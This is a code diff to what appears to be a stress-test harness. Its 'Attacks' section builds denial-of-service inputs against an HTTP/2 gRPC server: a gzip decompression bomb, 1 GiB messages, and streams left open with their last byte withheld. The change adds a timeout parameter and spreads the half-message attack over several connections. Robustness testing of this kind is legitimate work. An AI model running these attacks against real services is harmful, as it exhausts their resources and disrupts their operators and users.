@@ -56,21 +56,21 @@ def zeros_in_gzip(megabytes):
 
 
 # ---- Attacks: (connect, numbers...) -> connections -----------------------------------------------
-def send(connect, path, bodies, headers=(), end=True, begun=False, **how):
+def send(connect, path, bodies, headers=(), end=True, begun=False, patience=QUIET, **how):
   """One connection, a stream for each body; until they have ended (begun: have an answer)."""
   connection = connect(**how)
   connection.turn(QUIET)  # The peer's windows.
   for body in bodies:
     stream = connection.request(path, headers)
     connection.data(stream, body, end)
-  connection.settle(QUIET, begun)
+  connection.settle(patience, begun)
   return [connection]
 
 
 def gzip_bomb(connect, megabytes=1024, streams=1):
   """Messages that inflate to a thousand times their size."""
   bomb = message(zeros_in_gzip(megabytes), compressed=True)
-  return send(connect, GENERATE, [bomb] * streams, [("grpc-encoding", "gzip")])
+  return send(connect, GENERATE, [bomb] * streams, [("grpc-encoding", "gzip")], patience=30)
 
 
 def unannounced_gzip(connect, megabytes=64):
@@ -83,15 +83,13 @@ def big_message(connect, megabytes=1024):
   return send(connect, GENERATE, [message(field(2, bytes(megabytes << 20)))])
 
 
-def half_messages(connect, streams=60, megabytes=10):
+def half_messages(connect, streams=60, megabytes=10, connections=1):
   """Messages whose last byte never comes."""
   body = message(bytes(megabytes << 20))[:-1]
-  connection = connect()
-  connection.turn(QUIET)
-  for _ in range(streams):
-    connection.data(connection.request(GENERATE), body, end=False)
-  connection.settle(QUIET)
-  return [connection]
+  found = []
+  for _ in range(connections):
+    found += send(connect, GENERATE, [body] * streams, end=False)
+  return found
 
 
 def watch_names(connect, streams=194, megabytes=10):
